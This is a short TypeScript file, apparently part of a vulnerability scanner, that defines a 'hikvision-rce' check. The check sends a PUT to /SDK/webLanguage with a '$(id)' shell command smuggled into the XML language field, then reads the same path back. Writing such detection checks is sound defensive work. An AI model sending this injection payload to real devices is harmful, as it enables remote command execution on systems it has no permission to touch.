import { type Proof, get, proof, request } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'hikvision-rce',
    request('PUT', '/SDK/webLanguage', '<language>$(id)</language>'),
    get('/SDK/webLanguage'),
  ),
]
